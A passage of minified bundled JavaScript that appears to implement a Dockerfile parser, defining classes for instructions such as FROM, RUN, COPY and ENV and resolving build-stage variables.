`:break;case"-":if(c){l=p;break e}else a?c=!0:a=!0;break;default:l=p;break e}let u=this.document.positionAt(this.document.offsetAt(s.start)+l);if(o===-1)this.flags.push(new Sc.Flag(this.document,s,t.substring(2),Hs.Range.create(u,s.end),null,null));else if(o===t.length-1){let p=this.document.positionAt(this.document.offsetAt(s.start)+o);this.flags.push(new Sc.Flag(this.document,s,t.substring(2,o),Hs.Range.create(u,p),"",Hs.Range.create(s.end,s.end)))}else{let p=this.document.positionAt(this.document.offsetAt(s.start)+o);this.flags.push(new Sc.Flag(this.document,s,t.substring(2,r),Hs.Range.create(u,p),t.substring(r+1),Hs.Range.create(this.document.positionAt(this.document.offsetAt(s.start)+o+1),s.end)))}}}}return this.flags}getArguments(){let e=super.getArguments(),t=this.getFlags();if(t.length===0)return e;for(let s=0;s<t.length;s++)e.shift();return e}};vr.ModifiableInstruction=Mc});var Ct=D(xr=>{"use strict";Object.defineProperty(xr,"__esModule",{value:!0});xr.JSONInstruction=void 0;var Kn=Je(),kr=zn(),Vk=lc(),zk=Ys(),Ac=class extends zk.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.openingBracket=null,this.closingBracket=null,this.jsonStrings=[];let a=this.getRawArgumentsContent();if(a===null)return;let c=this.getArguments();if(c.length===1&&c[0].getValue()==="[]"){let h=c[0].getRange();this.openingBracket=new kr.Argument("[",Kn.Range.create(h.start.line,h.start.character,h.start.line,h.start.character+1)),this.closingBracket=new kr.Argument("]",Kn.Range.create(h.start.line,h.start.character+1,h.end.line,h.end.character));return}else if(c.length===2&&c[0].getValue()==="["&&c[1].getValue()==="]"){this.openingBracket=c[0],this.closingBracket=c[1];return}let l=e.offsetAt(this.getArgumentsRange().start),u=-1,p="",d=!1,f="";e:for(let h=0;h<a.length;h++){let m=a.charAt(h);switch(m){case"[":if(p==="")this.openingBracket=new kr.Argument("[",Kn.Range.create(e.positionAt(l+h),e.positionAt(l+h+1))),p="[";else if(d)f=f+m;else break e;break;case'"':if(p==="["||p===","){u=h,d=!0,p='"',f=f+m;continue}else if(p==='"')if(d)f=f+m,d=!1,this.jsonStrings.push(new Vk.JSONArgument(f,Kn.Range.create(e.positionAt(l+u),e.positionAt(l+h+1)),Kn.Range.create(e.positionAt(l+u+1),e.positionAt(l+h)))),f="";else break e;else break e;break;case",":if(d)f=f+m;else if(p==='"')p=",";else break e;break;case"]":if(d)f=f+m;else if(p!==""){this.closingBracket=new kr.Argument("]",Kn.Range.create(e.positionAt(l+h),e.positionAt(l+h+1)));break e}break;case" ":case"	":break;case"\\":if(d)switch(a.charAt(h+1)){case'"':case"\\":f=f+a.charAt(h+1),h++;continue;case" ":case"	":t:for(let g=h+2;g<a.length;g++)switch(a.charAt(g)){case"\r":g++;case`
`:h=g;continue e;case" ":case"	":break;default:break t}break;case"\r":h++;default:h++;continue}else t:for(let g=h+1;g<a.length;g++)switch(a.charAt(g)){case"\r":g++;case`
`:h=g;continue e;case" ":case"	":break;default:break t}break e;default:if(!d)break e;f=f+m;break}}}stopSearchingForFlags(e){return!0}getOpeningBracket(){return this.openingBracket}getJSONStrings(){return this.jsonStrings}getClosingBracket(){return this.closingBracket}};xr.JSONInstruction=Ac});var Ec=D(Rr=>{"use strict";Object.defineProperty(Rr,"__esModule",{value:!0});Rr.Add=void 0;var Kk=Ct(),Nc=class extends Kk.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}};Rr.Add=Nc});var Mr=D(Sr=>{"use strict";Object.defineProperty(Sr,"__esModule",{value:!0});Sr.Property=void 0;var Or=Je(),Jk=_t(),_c=class n{constructor(e,t,s,i){this.assignmentOperatorRange=null,this.assignmentOperator=null,this.valueRange=null,this.value=null,this.document=e,this.escapeChar=t,this.nameRange=n.getNameRange(e,s);let r=e.getText().substring(e.offsetAt(this.nameRange.start),e.offsetAt(this.nameRange.end));if(this.name=n.getValue(r,t),i)this.valueRange=i.getRange(),r=e.getText().substring(e.offsetAt(this.valueRange.start),e.offsetAt(this.valueRange.end)),this.value=n.getValue(r,t),this.range=Or.Range.create(this.nameRange.start,this.valueRange.end);else{let o=s.getRange();this.nameRange.start.line===o.start.line&&this.nameRange.start.character===o.start.character&&this.nameRange.end.line===o.end.line&&this.nameRange.end.character===o.end.character||(this.valueRange=n.getValueRange(e,s),r=e.getText().substring(e.offsetAt(this.valueRange.start),e.offsetAt(this.valueRange.end)),this.value=n.getValue(r,t),this.assignmentOperatorRange=Or.Range.create(this.nameRange.end,this.valueRange.start),this.assignmentOperator="="),this.range=o}}getRange(){return this.range}getName(){return this.name}getNameRange(){return this.nameRange}getValue(){return this.value}getValueRange(){return this.valueRange}getAssignmentOperator(){return this.assignmentOperator}getAssignmentOperatorRange(){return this.assignmentOperatorRange}getUnescapedValue(){if(this.valueRange===null)return null;let e=!1,t="",s=this.document.getText().substring(this.document.offsetAt(this.valueRange.start),this.document.offsetAt(this.valueRange.end));e:for(let i=0;i<s.length;i++){let r=s.charAt(i);switch(r){case this.escapeChar:for(let o=i+1;o<s.length;o++)switch(s.charAt(o)){case"\r":o++;case`
`:e=!0,i=o;continue e;case" ":case"	":break;default:t=t+r;continue e}t=t+r;break;case"\r":case`
`:break;case" ":case"	":e||(t=t+r);break;case"#":if(e)for(let o=i+1;o<s.length;o++)switch(s.charAt(o)){case"\r":o++;case`
`:i=o;continue e}else t=t+r;break;default:t=t+r,e=!1;break}}return t}static getNameRange(e,t){let s=t.getValue(),i=s.indexOf("=");if(i!==-1){let r=s.charAt(0),o=s.charAt(i-1);if(r==='"'&&o==='"'||r==="'"&&o==="'"||r!=='"'&&r!=="'")return Or.Range.create(t.getRange().start,e.positionAt(e.offsetAt(t.getRange().start)+i))}return t.getRange()}static getValueRange(e,t){return Or.Range.create(e.positionAt(e.offsetAt(t.getRange().start)+t.getValue().indexOf("=")+1),e.positionAt(e.offsetAt(t.getRange().end)))}static getValue(e,t){let s=!1,i=Jk.Util.findLeadingNonWhitespace(e,t);i!==0&&e.charAt(i)==="#"&&(s=!0),e=e.substring(i);let r=e.charAt(0),o=e.charAt(e.length-1),a=r==="'"||r==='"',c=r==="'"&&o==="'",l=!1;if(r==='"')for(let f=1;f<e.length;f++)e.charAt(f)===t?f++:e.charAt(f)==='"'&&f===e.length-1&&(l=!0);(c||l)&&(e=e.substring(1,e.length-1));let u=-1,p="",d=0;e:for(let f=0;f<e.length;f++){let h=e.charAt(f);switch(h){case t:if(f+1===e.length){p=p+t;break e}if(h=e.charAt(f+1),h===" "||h==="	")t:for(let m=f+2;m<e.length;m++){let g=e.charAt(m);switch(g){case" ":case"	":break;case"\r":m++;case`
`:s=!0,f=m;continue e;default:if(!l&&!c&&!a){g===t?(p=p+h,f=f+1):(p=p+h+g,f=m);continue e}break t}}if(l){h==="\r"?(s=!0,f=f+2):h===`
`?(s=!0,f++):h!=='"'&&(h===t&&f++,p=p+t);continue e}else if(c||a){h==="\r"?(s=!0,f=f+2):h===`
`?(s=!0,f++):p=p+t;continue e}else h===t?(p=p+t,f++):h==="\r"?(s=!0,f=f+2):h===`
`?(s=!0,f++,d=f):(p=p+h,f++);break;case" ":case"	":s&&u===-1&&(u=f),p=p+h;break;case"\r":f++;case`
`:s&&u!==-1&&(p=p.substring(0,p.length-(f-u-1)),u=-1);break;case"#":if(s){u!==-1&&(p=p.substring(0,p.length-(f-u)),u=-1);t:for(let m=f+1;m<e.length;m++)switch(e.charAt(m)){case"\r":m++;case`
`:f=m;break t}continue e}default:s&&(s=!1,u=-1),p=p+h;break}}return p}};Sr.Property=_c});var Ws=D(Ar=>{"use strict";Object.defineProperty(Ar,"__esModule",{value:!0});Ar.PropertyInstruction=void 0;var vn=Je(),Xk=$t(),Jn=Mr(),kn=zn(),vf=_t(),$c=class extends Xk.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.properties=void 0}getProperties(){if(this.properties===void 0){let e=this.getPropertyArguments();if(e.length===0)this.properties=[];else if(e.length===1)this.properties=[new Jn.Property(this.document,this.escapeChar,e[0])];else if(e.length===2)e[0].getValue().indexOf("=")===-1?this.properties=[new Jn.Property(this.document,this.escapeChar,e[0],e[1])]:this.properties=[new Jn.Property(this.document,this.escapeChar,e[0]),new Jn.Property(this.document,this.escapeChar,e[1])];else if(e[0].getValue().indexOf("=")===-1){let t=this.document.getText(),s=e[1].getRange().start,i=e[e.length-1].getRange().end;t=t.substring(this.document.offsetAt(s),this.document.offsetAt(i)),this.properties=[new Jn.Property(this.document,this.escapeChar,e[0],new kn.Argument(t,vn.Range.create(e[1].getRange().start,e[e.length-1].getRange().end)))]}else{this.properties=[];for(let t=0;t<e.length;t++)this.properties.push(new Jn.Property(this.document,this.escapeChar,e[t]))}}return this.properties}findTrailingNonWhitespace(e){let t=e.length;e:for(let s=e.length-1;s>=0;s--)switch(e.charAt(s)){case" ":case"	":continue;case`
`:e.charAt(s-1)==="\r"&&(s=s-1);case"\r":t:for(let i=s-1;i>=0;i--)switch(e.charAt(i)){case" ":case"	":case"\r":case`
`:case this.escapeChar:continue;default:t=i;break t}break e;default:t=s;break e}return t}getPropertyArguments(){let e=[],t=this.getInstructionRange(),s=this.document.offsetAt(t.end),i=s-this.document.offsetAt(t.start),r=this.getTextContent(),o=r.substring(i),a=vf.Util.findLeadingNonWhitespace(o,this.escapeChar);if(a===-1)return[];let c=this.document.positionAt(s+a),l=t.start.line!==c.line,u=!1,p=-1,d=this.findTrailingNonWhitespace(o);r=o.substring(a,d+1);let f=l?-1:0,h=!1;e:for(let m=0;m<r.length;m++){let g=r.charAt(m);switch(g){case this.escapeChar:if(m+1===r.length){u=!0;break e}switch(l||(p=m),r.charAt(m+1)){case" ":case"	":if(!vf.Util.isWhitespace(r.charAt(m+2))){m=m+1;continue e}t:for(let w=m+2;w<r.length;w++)switch(r.charAt(w)){case"\r":w++;case`
`:l=!0,m=w;continue e;case" ":case"	":break;default:e.push(new kn.Argument(r.substring(f,m),vn.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+m+2)))),f=w;break t}m=f-1;continue e;case"\r":m++;case`
`:l=!0,m=m+1;continue e;case this.escapeChar:f===-1&&(f=m),m=m+1;continue e;default:f===-1&&(f=m);continue e}case"'":case'"':h&&(this.createSpacedArgument(f,e,r,p,s,a),f=m,h=!1),f===-1&&(f=m);for(let w=m+1;w<r.length;w++)switch(r.charAt(w)){case g:if(r.charAt(w+1)!==" "&&r.charAt(w+1)!==""){m=w;continue e}e.push(new kn.Argument(r.substring(f,w+1),vn.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+w+1)))),m=w,f=-1;continue e;case this.escapeChar:w++;break}break e;case" ":case"	":l?f!==-1&&(h=!0):f!==-1&&(e.push(new kn.Argument(r.substring(f,m),vn.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+m)))),f=-1);break;case"\r":m++;case`
`:h=!1;break;case"#":if(l){for(let w=m+1;w<r.length;w++)switch(r.charAt(w)){case"\r":w++;case`
`:m=w,h=!1;continue e}if(f!==-1){let w=r.substring(f,p);e.push(new kn.Argument(w,vn.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+p)))),f=-1}break e}else f===-1&&(f=m);break;default:if(h&&(this.createSpacedArgument(f,e,r,p,s,a),f=m,h=!1),l=!1,f===-1&&(f=m),g==="$"&&r.charAt(m+1)==="{"){let w=!1,v=!1,O=!1;for(let S=m+1;S<r.length;S++)switch(r.charAt(S)){case this.escapeChar:O=!0;break;case"\r":case`
`:break;case"'":w=!w,O=!1;break;case'"':v=!v,O=!1;break;case" ":case"	":if(O||w||v)break;m=S-1;continue e;case"}":m=S;continue e;default:O=!1;break}break e}break}}if(f!==-1&&f!==r.length){let m=u?r.length-1:r.length,g=r.substring(f,m);e.push(new kn.Argument(g,vn.Range.create(this.document.positionAt(s+a+f),this.document.positionAt(s+a+m))))}return e}createSpacedArgument(e,t,s,i,r,o){e!==-1&&t.push(new kn.Argument(s.substring(e,i),vn.Range.create(this.document.positionAt(r+o+e),this.document.positionAt(r+o+i))))}};Ar.PropertyInstruction=$c});var Er=D(Nr=>{"use strict";Object.defineProperty(Nr,"__esModule",{value:!0});Nr.Arg=void 0;var Zk=Mr(),Qk=Ws(),Cc=class extends Qk.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o),this.property=null;let a=this.getPropertyArguments();a.length===1?this.property=new Zk.Property(this.document,this.escapeChar,a[0]):this.property=null}getProperty(){return this.property}};Nr.Arg=Cc});var $r=D(_r=>{"use strict";Object.defineProperty(_r,"__esModule",{value:!0});_r.Cmd=void 0;var ex=Ct(),Dc=class extends ex.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};_r.Cmd=Dc});var Dr=D(Cr=>{"use strict";Object.defineProperty(Cr,"__esModule",{value:!0});Cr.Copy=void 0;var tx=Ct(),Fc=class extends tx.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getFromFlag(){let e=super.getFlags();return e.length===1&&e[0].getName()==="from"?e[0]:null}getHeredocs(){return super.getHeredocs()}};Cr.Copy=Fc});var Tr=D(Fr=>{"use strict";Object.defineProperty(Fr,"__esModule",{value:!0});Fr.Env=void 0;var nx=Ws(),Tc=class extends nx.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getProperties(){return super.getProperties()}};Fr.Env=Tc});var Ir=D(Lr=>{"use strict";Object.defineProperty(Lr,"__esModule",{value:!0});Lr.Entrypoint=void 0;var sx=Ct(),Lc=class extends sx.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Lr.Entrypoint=Lc});var Bs=D(Pr=>{"use strict";Object.defineProperty(Pr,"__esModule",{value:!0});Pr.From=void 0;var Xn=Je(),ix=Ys(),Ic=class extends ix.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getImage(){let e=this.getArguments();return e.length>0?e[0].getValue():null}getImageName(){let e=this.getRangeContent(this.getImageNameRange());if(e===null)return null;let t=!1,s=!1,i="";for(let r=0;r<e.length;r++){let o=e.charAt(r);switch(o){case this.escapeChar:s=!0;break;case"\r":continue;case`
`:t=!1;break;case" ":case"	":break;case"#":s?t=!0:(i=i+o,s=!1);break;default:t||(i=i+o,s=!1);break}}return i}getImageNameRange(){let e=this.getImageRange();if(e){let t=this.getRegistryRange();t&&(e.start=this.document.positionAt(this.document.offsetAt(t.end)+1));let s=this.getImageTagRange(),i=this.getImageDigestRange();return s===null?i!==null&&(e.end=this.document.positionAt(this.document.offsetAt(i.start)-1)):e.end=this.document.positionAt(this.document.offsetAt(s.start)-1),e}return null}getImageRange(){let e=this.getArguments();return e.length!==0?e[0].getRange():null}getImageTag(){return this.getRangeContent(this.getImageTagRange())}getImageTagRange(){let e=this.getImageRange();if(e){let t=this.document.offsetAt(e.start),s=this.getRangeContent(e),i=this.indexOf(t,s,"@"),r=s.indexOf("/");if(i===-1){let c=this.lastIndexOf(t,s,":");if(c>r)return Xn.Range.create(this.document.positionAt(t+c+1),e.end)}let o=s.substring(0,i),a=o.indexOf(":");return a===-1?null:r===-1?Xn.Range.create(this.document.positionAt(t+a+1),this.document.positionAt(t+i)):a<r?null:Xn.Range.create(this.document.positionAt(t+a+1),this.document.positionAt(t+o.length))}return null}getImageDigest(){return this.getRangeContent(this.getImageDigestRange())}getImageDigestRange(){let e=this.getImageRange();if(e){let t=this.getRangeContent(e),s=this.lastIndexOf(this.document.offsetAt(e.start),t,"@");if(s!==-1)return Xn.Range.create(e.start.line,e.start.character+s+1,e.end.line,e.end.character)}return null}indexOf(e,t,s){let i=t.indexOf(s),r=this.getVariables();for(let o=0;o<r.length;o++){let a=e+i,c=r[o].getRange();if(this.document.offsetAt(c.start)<a&&a<this.document.offsetAt(c.end)){let l=this.document.offsetAt(c.end)-e,p=t.substring(l).indexOf(s);if(p===-1)return-1;i=p+l,o=-1;continue}}return i}lastIndexOf(e,t,s){let i=t.lastIndexOf(s),r=this.getVariables();for(let o=0;o<r.length;o++){let a=e+i,c=r[o].getRange();if(this.document.offsetAt(c.start)<a&&a<this.document.offsetAt(c.end)){if(i=t.substring(0,i).lastIndexOf(s),i===-1)return-1;o=-1;continue}}return i}getRegistry(){return this.getRangeContent(this.getRegistryRange())}getRegistryRange(){let e=this.getImageRange();if(e){let t=this.getImageTagRange(),s=this.getImageDigestRange();t===null?s!==null&&(e.end=this.document.positionAt(this.document.offsetAt(s.start)-1)):e.end=this.document.positionAt(this.document.offsetAt(t.start)-1);let i=this.getRangeContent(e),r=this.document.offsetAt(e.start),o=this.indexOf(r,i,"/");if(o===-1)return null;let a=this.indexOf(r,i,":"),c=this.indexOf(r,i,".");if(a!==-1||c!==-1)return Xn.Range.create(e.start,this.document.positionAt(r+o));if(i.substring(0,o)==="localhost")return Xn.Range.create(e.start,this.document.positionAt(r+o))}return null}getBuildStage(){let e=this.getBuildStageRange();return e===null?null:this.getRangeContent(e)}getBuildStageRange(){let e=this.getArguments();return e.length>2&&e[1].getValue().toUpperCase()==="AS"?e[2].getRange():null}getPlatformFlag(){let e=super.getFlags();return e.length===1&&e[0].getName()==="platform"?e[0]:null}};Pr.From=Ic});var qr=D(jr=>{"use strict";Object.defineProperty(jr,"__esModule",{value:!0});jr.Healthcheck=void 0;var rx=Ys(),Pc=class extends rx.ModifiableInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e=e.toUpperCase(),e==="CMD"||e==="NONE"}getSubcommand(){let e=this.getArguments();return e.length!==0?e[0]:null}};jr.Healthcheck=Pc});var qc=D(Ur=>{"use strict";Object.defineProperty(Ur,"__esModule",{value:!0});Ur.Label=void 0;var ox=Ws(),ax=_t(),jc=class extends ox.PropertyInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getVariables(){let e=super.getVariables(),t=this.getProperties();for(let s of t){let i=s.getUnescapedValue();if(i!==null&&i.length>2&&i.charAt(0)==="'"&&i.charAt(i.length-1)==="'"){let r=s.getValueRange();for(let o=0;o<e.length;o++)ax.Util.isInsideRange(e[o].getRange().start,r)&&(e.splice(o,1),o--)}}return e}getProperties(){return super.getProperties()}};Ur.Label=jc});var Yr=D(Hr=>{"use strict";Object.defineProperty(Hr,"__esModule",{value:!0});Hr.Onbuild=void 0;var cx=Je(),lx=Hc(),ux=$t(),Uc=class extends ux.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getTrigger(){let e=this.getTriggerWord();return e===null?null:e.toUpperCase()}getTriggerWord(){return this.getRangeContent(this.getTriggerRange())}getTriggerRange(){let e=this.getArguments();return e.length>0?e[0].getRange():null}getTriggerInstruction(){let e=this.getTriggerRange();if(e===null)return null;let t=this.getArguments();return lx.Parser.createInstruction(this.document,this.dockerfile,this.escapeChar,cx.Range.create(t[0].getRange().start,this.getRange().end),this.getTriggerWord(),e)}};Hr.Onbuild=Uc});var Wc=D(Wr=>{"use strict";Object.defineProperty(Wr,"__esModule",{value:!0});Wr.Run=void 0;var px=Ct(),Yc=class extends px.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}stopSearchingForFlags(e){return e.indexOf("--")===-1}getHeredocs(){return super.getHeredocs()}};Wr.Run=Yc});var Gc=D(Br=>{"use strict";Object.defineProperty(Br,"__esModule",{value:!0});Br.Shell=void 0;var dx=Ct(),Bc=class extends dx.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Br.Shell=Bc});var zc=D(Gr=>{"use strict";Object.defineProperty(Gr,"__esModule",{value:!0});Gr.Stopsignal=void 0;var fx=$t(),Vc=class extends fx.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Gr.Stopsignal=Vc});var zr=D(Vr=>{"use strict";Object.defineProperty(Vr,"__esModule",{value:!0});Vr.Workdir=void 0;var hx=$t(),Kc=class extends hx.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}getPath(){return this.getArgumentsContent()}getAbsolutePath(){let e=this.getPath();if(e===null||e.startsWith("/"))return e;let t=this.getRange().start.line,s=this.dockerfile.getStageHierarchy(t);for(let i=s.length-1;i>=0;i--){let r=s[i].getWORKDIRs();for(let o=r.length-1;o>=0;o--)if(r[o].getRange().start.line<t){let a=r[o].getAbsolutePath();return a==null?void 0:a.endsWith("/")?a+e:a+"/"+e}}}};Vr.Workdir=Kc});var Xc=D(Kr=>{"use strict";Object.defineProperty(Kr,"__esModule",{value:!0});Kr.User=void 0;var mx=$t(),Jc=class extends mx.Instruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Kr.User=Jc});var Qc=D(Jr=>{"use strict";Object.defineProperty(Jr,"__esModule",{value:!0});Jr.Volume=void 0;var gx=Ct(),Zc=class extends gx.JSONInstruction{constructor(e,t,s,i,r,o){super(e,t,s,i,r,o)}};Jr.Volume=Zc});var Rf=D(Xr=>{"use strict";Object.defineProperty(Xr,"__esModule",{value:!0});Xr.ImageTemplate=void 0;var el=Je(),yx=Er(),bx=$r(),wx=Dr(),vx=Tr(),kx=Ir(),kf=Bs(),xx=qr(),Rx=Yr(),xf=_t(),Ox=zr(),tl=class{constructor(){this.comments=[],this.instructions=[]}addComment(e){this.comments.push(e)}getComments(){return this.comments}addInstruction(e){this.instructions.push(e)}getInstructions(){return this.instructions}getInstructionAt(e){for(let t of this.instructions)if(xf.Util.isInsideRange(el.Position.create(e,0),t.getRange()))return t;return null}getARGs(){let e=[];for(let t of this.instructions)t instanceof yx.Arg&&e.push(t);return e}getCMDs(){let e=[];for(let t of this.instructions)t instanceof bx.Cmd&&e.push(t);return e}getCOPYs(){let e=[];for(let t of this.instructions)t instanceof wx.Copy&&e.push(t);return e}getENTRYPOINTs(){let e=[];for(let t of this.instructions)t instanceof kx.Entrypoint&&e.push(t);return e}getENVs(){let e=[];for(let t of this.instructions)t instanceof vx.Env&&e.push(t);return e}getFROM(){for(let e of this.instructions)if(e instanceof kf.From)return e;return null}getFROMs(){let e=[];for(let t of this.instructions)t instanceof kf.From&&e.push(t);return e}getHEALTHCHECKs(){let e=[];for(let t of this.instructions)t instanceof xx.Healthcheck&&e.push(t);return e}getWORKDIRs(){let e=[];for(let t of this.instructions)t instanceof Ox.Workdir&&e.push(t);return e}getOnbuildTriggers(){let e=[];for(let t of this.instructions)if(t instanceof Rx.Onbuild){let s=t.getTriggerInstruction();s&&e.push(s)}return e}getAvailableVariables(e){let t=[];for(let s of this.getARGs())if(s.isBefore(e)){let i=s.getProperty();if(i){let r=i.getName();t.indexOf(r)===-1&&t.push(r)}}for(let s of this.getENVs())if(s.isBefore(e))for(let i of s.getProperties()){let r=i.getName();t.indexOf(r)===-1&&t.push(r)}return t}resolveVariable(e,t){let s=this.getENVs();for(let r=s.length-1;r>=0;r--)if(s[r].isBefore(t)){for(let o of s[r].getProperties())if(o.getName()===e)return o.getValue()}let i=this.getARGs();for(let r=i.length-1;r>=0;r--)if(i[r].isBefore(t)){let o=i[r].getProperty();if(o&&o.getName()===e)return o.getValue()}}getRange(){let e=this.getInstructions();if(e.length===0)return el.Range.create(0,0,0,0);let t=e[0].getRange().start,s=e[e.length-1].getRange().end;return el.Range.create(t,s)}contains(e){let t=this.getRange();return t===null?!1:xf.Util.isInsideRange(e,t)}};Xr.ImageTemplate=tl});var Of=D(Zr=>{"use strict";Object.defineProperty(Zr,"__esModule",{value:!0});Zr.Dockerfile=void 0;var nt=Je(),Sx=bn(),Gs=Rf(),Mx=Bs(),Vs=_t(),Ax=bn(),nl=class extends Gs.ImageTemplate{constructor(e){super(),this.initialInstructions=new Gs.ImageTemplate,this.buildStages=[],this.directives=[],this.foundFrom=!1,this.document=e}getEscapeCharacter(){for(let e of this.directives)if(e.getDirective()===Sx.Directive.escape){let t=e.getValue();if(t==="\\"||t==="`")return t}return"\\"}getInitialARGs(){return this.initialInstructions.getARGs()}getContainingImage(e){let t=nt.Range.create(nt.Position.create(0,0),this.document.positionAt(this.document.getText().length));if(!Vs.Util.isInsideRange(e,t))return null;if((this.initialInstructions.getComments().length>0||this.initialInstructions.getInstructions().length>0)&&Vs.Util.isInsideRange(e,this.initialInstructions.getRange()))return this.initialInstructions;for(let s of this.buildStages)if(Vs.Util.isInsideRange(e,s.getRange()))return s;return this}addInstruction(e){e.getKeyword()===Ax.Keyword.FROM?(this.currentBuildStage=new Gs.ImageTemplate,this.buildStages.push(this.currentBuildStage),this.foundFrom=!0):this.foundFrom||this.initialInstructions.addInstruction(e),this.foundFrom&&this.currentBuildStage.addInstruction(e),super.addInstruction(e)}setDirectives(e){this.directives=e}getDirective(){return this.directives.length===0?null:this.directives[0]}getDirectives(){return this.directives}resolveVariable(e,t){for(let r of this.getFROMs()){let o=r.getRange();if(o.start.line<=t&&t<=o.end.line){let a=new Gs.ImageTemplate;for(let c of this.initialInstructions.getARGs())a.addInstruction(c);return a.resolveVariable(e,t)}}let s=this.getContainingImage(nt.Position.create(t,0));if(s===null)return;let i=s.resolveVariable(e,t);if(i===null){let r=new Gs.ImageTemplate;for(let o of this.initialInstructions.getARGs())r.addInstruction(o);return r.resolveVariable(e,t)}return i}getAvailableVariables(e){if(this.getInstructionAt(e)instanceof Mx.From){let s=[];for(let i of this.getInitialARGs()){let r=i.getProperty();r&&s.push(r.getName())}return s}let t=this.getContainingImage(nt.Position.create(e,0));return t?t.getAvailableVariables(e):[]}getParentStage(e){let t=e.getFROM(),s=t===null?null:t.getImageName();if(s===null)return null;for(let i of this.getFROMs())if(i.getBuildStage()===s){let r=i.getRange();return r.start.line===t.getRange().start.line?null:this.getContainingImage(r.start)}return null}getStageHierarchy(e){let t=this.getContainingImage(nt.Position.create(e,0));if(t===null)return[];let s=[t],i=this.getParentStage(t);for(;i!==null;)s.splice(0,0,i),i=this.getParentStage(i);return s}getAvailableWorkingDirectories(e){let t=new Set;for(let s of this.getStageHierarchy(e))for(let i of s.getWORKDIRs())if(i.getRange().end.line<e){let r=i.getAbsolutePath();r!=null&&(r.endsWith("/")||(r+="/"),t.add(r))}return Array.from(t)}organizeComments(){let e=this.getComments();for(let t=0;t<e.length;t++)if(Vs.Util.isInsideRange(e[t].getRange().end,this.initialInstructions.getRange()))this.initialInstructions.addComment(e[t]);else for(let s of this.buildStages)Vs.Util.isInsideRange(e[t].getRange().start,s.getRange())&&s.addComment(e[t])}getRange(){let e=this.getComments(),t=this.getInstructions(),s=null;if(e.length===0)t.length>0&&(s=nt.Range.create(t[0].getRange().start,t[t.length-1].getRange().end));else if(t.length===0)s=nt.Range.create(e[0].getRange().start,e[e.length-1].getRange().end);else{let i=e[0].getRange().start,r=e[e.length-1].getRange().end,o=t[0].getRange().start,a=t[t.length-1].getRange().end;i.line<o.line?(r.line<a.line&&(s=nt.Range.create(i,a)),s=nt.Range.create(i,r)):r.line<a.line?s=nt.Range.create(o,a):s=nt.Range.create(o,r)}return s===null?this.directives.length===0?null:this.directives[0].getRange():this.directives.length===0?s:nt.Range.create(this.directives[0].getRange().start,s.end)}};Zr.Dockerfile=nl});var Hc=D(eo=>{"use strict";Object.defineProperty(eo,"__esModule",{value:!0});eo.Parser=void 0;var Nx=yf(),xn=Je(),Ex=fc(),_x=mc(),$x=$t(),Cx=Ec(),Dx=Er(),Fx=$r(),Tx=Dr(),Lx=Tr(),Ix=Ir(),Px=Bs(),jx=qr(),qx=qc(),Ux=Yr(),Hx=Wc(),Yx=Gc(),Wx=zc(),Bx=zr(),Gx=Xc(),Vx=Qc(),zx=Of(),sl=_t(),Qr=bn(),il=class n{constructor(){this.escapeChar=null}static createInstruction(e,t,s,i,r,o){switch(r.toUpperCase()){case"ADD":return new Cx.Add(e,i,t,s,r,o);case"ARG":return new Dx.Arg(e,i,t,s,r,o);case"CMD":return new Fx.Cmd(e,i,t,s,r,o);case"COPY":return new Tx.Copy(e,i,t,s,r,o);case"ENTRYPOINT":return new Ix.Entrypoint(e,i,t,s,r,o);case"ENV":return new Lx.Env(e,i,t,s,r,o);case"FROM":return new Px.From(e,i,t,s,r,o);case"HEALTHCHECK":return new jx.Healthcheck(e,i,t,s,r,o);case"LABEL":return new qx.Label(e,i,t,s,r,o);case"ONBUILD":return new Ux.Onbuild(e,i,t,s,r,o);case"RUN":return new Hx.Run(e,i,t,s,r,o);case"SHELL":return new Yx.Shell(e,i,t,s,r,o);case"STOPSIGNAL":return new Wx.Stopsignal(e,i,t,s,r,o);case"WORKDIR":return new Bx.Workdir(e,i,t,s,r,o);case"USER":return new Gx.User(e,i,t,s,r,o);case"VOLUME":return new Vx.Volume(e,i,t,s,r,o)}return new $x.Instruction(e,i,t,s,r,o)}getParserDirectives(e,t){let s=[];this.escapeChar="";let i=sl.Util.isUTF8BOM(t.substring(0,1))?1:0;e:for(let r=i;r<t.length;r++)switch(t.charAt(r)){case" ":case"	":break;case"\r":case`
`:break e;case"#":let o=-1,a=-1;for(let c=r+1;c<t.length;c++){let l=t.charAt(c);switch(l){case" ":case"	":o!==-1&&a===-1&&(a=c);break;case"\r":case`
`:break e;case"=":let u=-1,p=-1;a===-1&&(a=c);let d=t.length;t:for(let g=c+1;g<t.length;g++)switch(l=t.charAt(g),l){case"\r":case`
